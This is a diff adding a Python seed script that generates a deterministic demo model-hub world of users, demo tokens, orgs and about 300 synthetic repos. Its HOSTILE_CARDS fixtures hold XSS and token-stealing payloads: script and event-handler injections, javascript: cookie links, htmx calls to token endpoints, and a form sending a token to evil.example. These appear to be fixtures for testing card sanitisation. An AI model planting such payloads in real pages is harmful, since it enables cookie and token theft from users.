@@ -1,0 +1,215 @@
+"""`--seed demo`: a realistic, deterministic world of people, orgs and about 300 repos.
+
+Documented tokens (see README.md beside this file):
+  alice  hf_demo_alice_write (write), hf_demo_alice_read (read), hf_demo_alice_fine (fine-grained: acme)
+  bob    hf_demo_bob_write (write)      carol  hf_demo_carol_read (read)
+  dave   hf_demo_dave_write (write; contributor in acme)     mallory hf_demo_mallory_write (outsider)
+"""
+
+from __future__ import annotations
+
+import json
+import random
+from datetime import datetime, timezone
+
+from .state import World
+from .vocab import DATASET_NAMES, LANGUAGES, LICENSES, PIPELINES, TASK_CATEGORIES
+
+START = datetime(2021, 3, 1, tzinfo=timezone.utc).timestamp()
+END = datetime(2026, 11, 1, tzinfo=timezone.utc).timestamp()
+
+USERS = [
+    # name, fullname, orgs, tokens
+    ("alice", "Alice Martin", {"acme": "admin", "datalab": "write"},
+     {"hf_demo_alice_write": "write", "hf_demo_alice_read": "read",
+      "hf_demo_alice_fine": {"role": "fineGrained", "displayName": "acme-ci",
+                             "scoped": [{"entity": {"type": "org", "name": "acme"},
+                                         "permissions": ["repo.content.read", "repo.write"]}],
+                             "global": ["discussion.write"]}}),
+    ("bob", "Bob Nakamura", {"acme": "write"}, {"hf_demo_bob_write": "write"}),
+    ("carol", "Carol Diaz", {"acme": "read", "datalab": "admin"}, {"hf_demo_carol_read": "read"}),
+    ("dave", "Dave Okafor", {"acme": "contributor"}, {"hf_demo_dave_write": "write"}),
+    ("mallory", "Mallory", {}, {"hf_demo_mallory_write": "write"}),
+]
+PUBLIC_ORGS = ["northwind-ai", "openlab", "lumen", "polyglot-nlp", "vision-works", "soundscape", "tabula"]
+
+ARCHS = {
+    "text-classification": ("bert", "transformers", ["distilbert", "roberta", "deberta", "bert"]),
+    "token-classification": ("bert", "transformers", ["bert", "xlm-roberta"]),
+    "question-answering": ("roberta", "transformers", ["roberta", "deberta", "electra"]),
+    "fill-mask": ("bert", "transformers", ["bert", "roberta", "camembert"]),
+    "summarization": ("t5", "transformers", ["t5", "bart", "pegasus"]),
+    "translation": ("marian", "transformers", ["marian", "t5", "nllb"]),
+    "text-generation": ("llama", "transformers", ["llama", "mistral", "gpt2", "qwen2", "phi"]),
+    "sentence-similarity": ("bert", "sentence-transformers", ["minilm", "mpnet", "bge"]),
+    "feature-extraction": ("bert", "sentence-transformers", ["e5", "gte", "bge"]),
+    "image-classification": ("vit", "timm", ["vit", "resnet", "convnext", "efficientnet"]),
+    "object-detection": ("detr", "transformers", ["detr", "yolos"]),
+    "image-segmentation": ("segformer", "transformers", ["segformer", "mask2former"]),
+    "text-to-image": ("unet", "diffusers", ["sd", "sdxl", "flux"]),
+    "image-to-text": ("blip", "transformers", ["blip", "git"]),
+    "automatic-speech-recognition": ("whisper", "transformers", ["whisper", "wav2vec2"]),
+    "text-to-speech": ("vits", "transformers", ["vits", "speecht5"]),
+    "audio-classification": ("ast", "transformers", ["ast", "hubert"]),
+    "reinforcement-learning": ("ppo", "stable-baselines3", ["ppo", "dqn", "a2c"]),
+}
+SIZES = ["tiny", "mini", "small", "base", "medium", "large", "xl", "1b", "3b", "7b"]
+FLAVOURS = ["sentiment", "news", "legal", "medical", "finance", "chat", "instruct", "code", "multilingual",
+            "squad", "imdb", "v2", "distilled", "quantized", "finetuned", "lora"]
+DATASET_THEMES = ["reviews", "news", "dialogues", "receipts", "tweets", "wiki", "patents", "recipes", "code",
+                  "speech", "images", "invoices", "questions", "translations", "emails", "captions"]
+SPACE_THEMES = ["demo", "playground", "leaderboard", "chat", "explorer", "arena", "viewer", "studio"]
+
+HOSTILE_CARDS = [
+    ("mallory/friendly-model", "model",
+     "# Friendly model\n\n<script>document.title='pwned'</script>\n\n"
+     "[Read the docs](javascript:alert(document.cookie))\n\n"
+     "<div hx-get=\"/account/token/\" hx-trigger=\"load\" hx-target=\"body\">loading…</div>\n\n"
+     "<img src=\"x\" onerror=\"alert(1)\">\n"),
+    ("mallory/helpful-dataset", "dataset",
+     "# Helpful dataset\n\n<iframe src=\"https://evil.example/\"></iframe>\n\n"
+     "<a href=\"javascript:fetch('/account/')\" hx-post=\"/account/token/delete/\">click me</a>\n\n"
+     "<style>body{display:none}</style>\n"),
+    ("mallory/shiny-space", "space",
+     "# Shiny space\n\n<form action=\"https://evil.example/steal\"><input name=\"token\"></form>\n\n"
+     "<svg onload=\"alert(1)\"></svg> <span hx-on:click=\"alert(1)\">hover</span>\n"),
+]
+
+
+def _card(meta: dict, body: str) -> str:
+    lines = ["---"]
+    for key, value in meta.items():
+        lines.append(f"{key}: {json.dumps(value)}")
+    lines += ["---", "", body]
+    return "\n".join(lines)
+
+
+def demo(world: World) -> None:
+    rng = random.Random(20261126)
+    for name, fullname, orgs, tokens in USERS:
+        world.add_user(name, fullname, orgs, tokens, email=f"{name}@example.com")
+    world.accounts["acme"].fullname = "ACME Research"
+    world.accounts["acme"].plan = "team"
+    world.accounts["datalab"].fullname = "Data Lab"
+    for org in PUBLIC_ORGS:
+        world.add_user(f"{org}-bot", orgs={org: "admin"})
+        world.accounts[org].fullname = org.replace("-", " ").title()
+    owners = ["acme"] * 5 + ["datalab"] * 3 + ["alice"] * 2 + ["bob"] + PUBLIC_ORGS * 2
+    used: set[tuple[str, str]] = set()
+
+    def when() -> tuple[float, float]:
+        created = rng.uniform(START, END - 86400 * 30)
+        return created, rng.uniform(created, END)
+
+    def unique(repo_type: str, owner: str, name: str) -> str:
+        repo_id, n = f"{owner}/{name}", 2
+        while (repo_type, repo_id) in used:
+            repo_id, n = f"{owner}/{name}-{n}", n + 1
+        used.add((repo_type, repo_id))
+        return repo_id
+
+    def popularity() -> tuple[int, int, int]:
+        downloads = int(rng.lognormvariate(7, 2.5))
+        return downloads, int(downloads ** 0.5 * rng.uniform(0.05, 0.6)), rng.randint(0, 120)
+
+    def private_for(owner: str) -> bool:
+        return owner in ("acme", "datalab", "alice", "bob") and rng.random() < 0.3
+
+    for _ in range(180):
+        pipeline = rng.choice(list(ARCHS))
+        model_type, library, archs = ARCHS[pipeline]
+        owner = rng.choice(owners)
+        arch = rng.choice(archs)
+        repo_id = unique("model", owner, f"{arch}-{rng.choice(SIZES)}-{rng.choice(FLAVOURS)}")
+        created, modified = when()
+        downloads, likes, trending = popularity()
+        languages = rng.sample(list(LANGUAGES), rng.choice([1, 1, 1, 2, 3]))
+        meta = {
+            "license": rng.choice(list(LICENSES)),
+            "language": languages,
+            "library_name": library,
+            "pipeline_tag": pipeline,
+            "tags": rng.sample(["exbert", "endpoints_compatible", "conversational", "lora", "text-generation-inference"],
+                               rng.randint(0, 2)),
+            "datasets": rng.sample(DATASET_NAMES, rng.randint(0, 2)),
+        }
+        body = (f"# {repo_id.split('/')[1]}\n\nA {arch} model for {PIPELINES[pipeline][0].lower()}, "
+                f"trained by {owner}.\n\n## Usage\n\n```python\nfrom {library.replace('-', '_')} import pipeline\n```\n\n"
+                "| metric | value |\n|---|---|\n"
+                f"| accuracy | {rng.uniform(0.7, 0.99):.3f} |\n")
+        weight = {"size": rng.choice([200_000, 1_500_000, 6_000_000, 24_000_000, 60_000_000]), "seed": repo_id}
+        files: dict[str, object] = {
+            "README.md": _card(meta, body),
+            "config.json": json.dumps({"architectures": [f"{arch.title()}Model"], "model_type": model_type}, indent=2),
+            "model.safetensors": weight,
+        }
+        if library == "transformers" and rng.random() < 0.6:
+            files["tokenizer.json"] = json.dumps({"version": "1.0", "model": {"type": "BPE"}})
+        gated = rng.choice(["manual", "auto"]) if rng.random() < 0.06 else False
+        world.create_repo(
+            "model", repo_id, private=private_for(owner), created_at=created, modified_at=modified, files=files,
+            downloads=downloads, downloads_all_time=downloads * rng.randint(2, 12), likes=likes,
+            trending_score=trending, pipeline_tag=pipeline, library_name=library,
+            extra_tags=["pytorch", "safetensors", model_type] if library == "transformers" else ["safetensors"],
+            config={"architectures": [f"{arch.title()}Model"], "model_type": model_type},
+            gated=gated, created_by=owner,
+        )
+
+    for _ in range(80):
+        owner = rng.choice(owners)
+        theme = rng.choice(DATASET_THEMES)
+        repo_id = unique("dataset", owner, f"{theme}-{rng.choice(['en', 'multi', '2024', '2025', 'clean', 'v1', 'mini'])}")
+        created, modified = when()
+        downloads, likes, trending = popularity()
+        meta = {
+            "license": rng.choice(list(LICENSES)),
+            "language": rng.sample(list(LANGUAGES), rng.choice([1, 1, 2])),
+            "task_categories": rng.sample(TASK_CATEGORIES, rng.randint(1, 2)),
+            "size_categories": [rng.choice(["n<1K", "1K<n<10K", "10K<n<100K", "100K<n<1M", "1M<n<10M"])],
+            "tags": rng.sample(["synthetic", "croissant", "benchmark"], rng.randint(0, 1)),
+        }
+        files = {
+            "README.md": _card(meta, f"# {repo_id.split('/')[1]}\n\nA dataset of {theme}.\n"),
+            "data/train-00000-of-00001.parquet": {"size": rng.choice([50_000, 800_000, 12_000_000]), "seed": repo_id},
+            "data/test-00000-of-00001.parquet": {"size": rng.choice([10_000, 200_000]), "seed": repo_id + "/test"},
+        }
+        world.create_repo(
+            "dataset", repo_id, private=private_for(owner), created_at=created, modified_at=modified, files=files,
+            downloads=downloads, downloads_all_time=downloads * 3, likes=likes, trending_score=trending,
+            extra_tags=["format:parquet", "modality:text", "library:datasets"],
+            gated="auto" if rng.random() < 0.05 else False, created_by=owner,
+            description=f"A dataset of {theme}.",
+        )
+
+    for _ in range(37):
+        owner = rng.choice(owners)
+        sdk = rng.choice(["gradio", "gradio", "streamlit", "docker", "static"])
+        repo_id = unique("space", owner, f"{rng.choice(DATASET_THEMES)}-{rng.choice(SPACE_THEMES)}")
+        created, modified = when()
+        _, likes, trending = popularity()
+        readme = _card({"title": repo_id.split("/")[1], "emoji": "🚀", "sdk": sdk, "license": "mit"},
+                       f"# {repo_id.split('/')[1]}\n\nA {sdk} Space.\n")
+        files = {"README.md": readme, "app.py": "import gradio as gr\n", "requirements.txt": "gradio\n"}
+        world.create_repo(
+            "space", repo_id, private=private_for(owner), created_at=created, modified_at=modified, files=files,
+            likes=likes, trending_score=trending, sdk=sdk, created_by=owner,
+        )
+
+    for repo_id, repo_type, text in HOSTILE_CARDS:
+        created, modified = when()
+        meta = {"license": "mit", "tags": ["demo"]}
+        if repo_type == "space":
+            meta["sdk"] = "static"
+        world.create_repo(repo_type, repo_id, created_at=created, modified_at=modified,
+                          files={"README.md": _card(meta, text)}, sdk="static" if repo_type == "space" else None,
+                          created_by="mallory", likes=1)
+
+    # A few fixed repos that documentation and tests can name.
+    world.create_repo("model", "acme/gated-llm", gated="manual", pipeline_tag="text-generation",
+                      library_name="transformers", created_by="alice",
+                      files={"README.md": _card({"license": "llama3", "pipeline_tag": "text-generation"},
+                                                "# Gated LLM\n\nAsk for access.\n"),
+                             "model.safetensors": {"size": 3_000_000, "seed": "gated"}})
+    world.create_repo("model", "acme/internal-classifier", private=True, pipeline_tag="text-classification",
+                      library_name="transformers", created_by="bob",
+                      files={"README.md": _card({"license": "other"}, "# Internal classifier\n")})
